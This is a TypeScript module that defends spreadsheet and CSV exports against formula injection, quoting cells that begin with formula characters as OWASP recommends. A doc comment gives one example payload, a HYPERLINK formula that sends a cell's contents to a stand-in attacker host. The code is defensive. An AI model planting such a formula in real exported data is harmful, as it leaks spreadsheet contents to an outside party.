/**
 * Text that a spreadsheet would read as a formula when the file is opened, or when the cell is edited: it
 * starts with `=`, `+`, `-` or `@` (Excel also takes Lotus-style `+`, `-`, `@` formulas), a tab or a carriage
 * return (OWASP, CSV injection), or the full-width forms of `=+-@`, which Excel in East Asian locales turns into
 * the ASCII ones. Organisation names, titles and texts are written by members, so without this a name such as
 * `=HYPERLINK("http://evil.example/?"&A2,"Ung Puls")` would run in a coordinator's spreadsheet.
 */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * One cell of any export (CSV and xlsx alike), neutralised as OWASP recommends: text a spreadsheet would
 * evaluate gets a leading single quote, so it is shown as the text it is, character for character after the
 * quote, and never evaluated. All other text, and numbers, pass unchanged (decision 010).
 */
export function spreadsheetCell<T extends string | number>(value: T): T | string {
  if (typeof value !== 'string') return value;
  return formulaStart.test(value) ? `'${value}` : value;
}

/** A whole row of cells through `spreadsheetCell`. */
export function spreadsheetRow(values: readonly (string | number)[]): (string | number)[] {
  return values.map((value) => spreadsheetCell(value));
}

/**
 * One CSV line as Swedish Excel reads it: semicolons between cells; a cell with a separator, a quote or a line
 * break, and every neutralised cell, in double quotes (quotes doubled).
 */
export function csvLine(values: readonly (string | number)[]): string {
  return values
    .map((value) => {
      const cell = String(spreadsheetCell(value));
      return /[";\n\r]/.test(cell) || cell !== String(value) ? `"${cell.replace(/"/g, '""')}"` : cell;
    })
    .join(';');
}
